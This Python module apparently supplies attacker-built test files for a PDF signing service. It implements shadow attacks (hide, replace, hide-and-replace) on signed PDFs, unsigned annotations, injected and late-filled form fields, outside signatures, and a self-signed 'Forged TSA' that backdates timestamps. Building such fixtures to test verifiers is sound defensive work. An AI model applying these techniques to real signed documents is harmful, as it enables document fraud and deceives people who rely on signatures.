"""Files an attacker builds: shadow attacks (hide, replace, hide-and-replace, after the PDF-Insecurity research),
form fields outside the plan, and signatures whose timestamp comes from a self-made TSA."""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta

from asn1crypto import keys, x509
from cryptography import x509 as cx509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko.sign.timestamps.dummy_client import DummyTimeStamper

from signer import KeySource

HIDE = "hide"
REPLACE = "replace"
HIDE_AND_REPLACE = "hide_and_replace"
SHADOW_CLASSES = (HIDE, REPLACE, HIDE_AND_REPLACE)


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pages(writer: IncrementalPdfFileWriter) -> list[generic.DictionaryObject]:
    return [writer.root["/Pages"]["/Kids"][i] for i in range(len(writer.root["/Pages"]["/Kids"]))]


def _text_stream(writer: IncrementalPdfFileWriter, text: str, box: tuple[float, float]) -> generic.IndirectObject:
    font = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        }
    )
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(
                [generic.FloatObject(0), generic.FloatObject(0), *map(generic.FloatObject, box)]
            ),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): writer.add_object(font)})}
            ),
        },
        stream_data=f"1 1 1 rg 0 0 {box[0]} {box[1]} re f 0 0 0 rg BT /F1 18 Tf 4 6 Td ({text}) Tj ET".encode(),
    )
    return writer.add_object(stream)


def shadow(pdf: bytes, kind: str) -> bytes:
    """An incremental update of the attack class `kind` on a signed book.

    - hide: the page's content is replaced by an object of the same number that draws nothing of it (what was
      signed disappears from view);
    - replace: an appearance is put on a signature widget without signing it, drawing "9.5" over the page (a
      replaced value that looks like part of the signed book);
    - hide-and-replace: the first page shows the content of another signed page (only references change: the
      replacing content was already in the signed file)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    pages = _pages(writer)
    first = pages[0]
    if kind == HIDE:
        contents = first.raw_get("/Contents")
        target = contents if isinstance(contents, generic.IndirectObject) else contents.raw_get(0)
        writer.mark_update(target)
        writer.objects[(target.generation, target.idnum)] = generic.StreamObject(stream_data=b"")
    elif kind == REPLACE:
        widget = writer.root["/AcroForm"]["/Fields"][0]
        while "/Kids" in widget:
            widget = widget["/Kids"][0]
        widget["/AP"] = generic.DictionaryObject({pdf_name("/N"): _text_stream(writer, "9.5", (60, 30))})
        writer.update_container(widget)
    elif kind == HIDE_AND_REPLACE:
        first["/Contents"] = pages[-1].raw_get("/Contents")
        writer.update_container(first)
    else:
        raise ValueError(kind)
    return _write(writer)


def annotate(pdf: bytes) -> bytes:
    """A square annotation over the page: an unsigned change a later signature must not cover."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = _pages(writer)[0]
    annot = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Square"),
            pdf_name("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in (50, 50, 400, 700)]),
            pdf_name("/F"): generic.NumberObject(4),
        }
    )
    page["/Annots"] = generic.ArrayObject([*page.get("/Annots", []), writer.add_object(annot)])
    writer.update_container(page)
    return _write(writer)


def add_text_field(pdf: bytes, name: str, value: str) -> bytes:
    """A text form field with a visible value on the first page, as a preparer would slip into a book."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    field = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Tx"),
            pdf_name("/T"): generic.TextStringObject(name),
            pdf_name("/V"): generic.TextStringObject(value),
            pdf_name("/Rect"): generic.ArrayObject([generic.FloatObject(v) for v in (300, 500, 360, 530)]),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/P"): page_ref,
            pdf_name("/DA"): generic.TextStringObject("/Helv 18 Tf 0 g"),
        }
    )
    field["/AP"] = generic.DictionaryObject({pdf_name("/N"): _text_stream(writer, value, (60, 30))})
    ref = writer.add_object(field)
    page["/Annots"] = generic.ArrayObject([*page.get("/Annots", []), ref])
    writer.update_container(page)
    form = writer.root["/AcroForm"]
    form["/Fields"].append(ref)
    writer.update_container(form)
    return _write(writer)


def fill_text_field(pdf: bytes, name: str, value: str) -> bytes:
    """The value of text field `name` changed, with a new appearance: a late form fill."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    for ref in writer.root["/AcroForm"]["/Fields"].iterate():
        field = ref.get_object()
        if field.get("/T") == name:
            field["/V"] = generic.TextStringObject(value)
            field["/AP"] = generic.DictionaryObject({pdf_name("/N"): _text_stream(writer, value, (60, 30))})
            writer.update_container(field)
            return _write(writer)
    raise KeyError(name)


def sign_outside(pdf: bytes, field: str, key: KeySource, timestamper: object) -> bytes:
    """A signature made by other software (pyHanko as is), bypassing the service's checks."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    meta = signers.PdfSignatureMetadata(field_name=field, subfilter=fields.SigSeedSubFilter.PADES)
    pdf_signer = signers.PdfSigner(meta, key.signer(), timestamper=timestamper)  # type: ignore[arg-type]
    out: io.BytesIO = pdf_signer.sign_pdf(writer, output=io.BytesIO())
    return out.getvalue()


def self_made_tsa(backdated_to: datetime) -> DummyTimeStamper:
    """A TSA whose certificate nobody trusts (self-signed, time-stamping usage), answering with `backdated_to`."""
    key = rsa.generate_private_key(65537, 2048)
    name = cx509.Name([cx509.NameAttribute(NameOID.COMMON_NAME, "Forged TSA")])
    now = datetime.now(UTC)
    cert = (
        cx509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(cx509.random_serial_number())
        .not_valid_before(now - timedelta(days=3650))
        .not_valid_after(now + timedelta(days=3650))
        .add_extension(cx509.ExtendedKeyUsage([ExtendedKeyUsageOID.TIME_STAMPING]), critical=True)
        .sign(key, hashes.SHA256())
    )
    der_key = key.private_bytes(
        serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    return DummyTimeStamper(
        tsa_cert=x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER)),
        tsa_key=keys.PrivateKeyInfo.load(der_key),
        fixed_dt=backdated_to,
    )
